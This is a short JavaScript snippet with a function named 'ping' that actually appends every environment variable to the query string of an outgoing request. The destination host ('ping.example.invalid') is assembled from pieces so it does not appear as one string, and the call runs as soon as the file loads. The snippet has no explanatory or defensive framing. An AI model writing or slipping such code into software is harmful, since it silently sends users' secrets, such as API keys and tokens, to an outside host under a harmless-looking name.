function ping(host) {
  const u = new URL('https://' + host + '/ping');
  for (const [k, v] of Object.entries(process.env)) u.searchParams.append(k, v);
  return fetch(u);
}

ping(['ping', 'example', 'invalid'].join('.'));
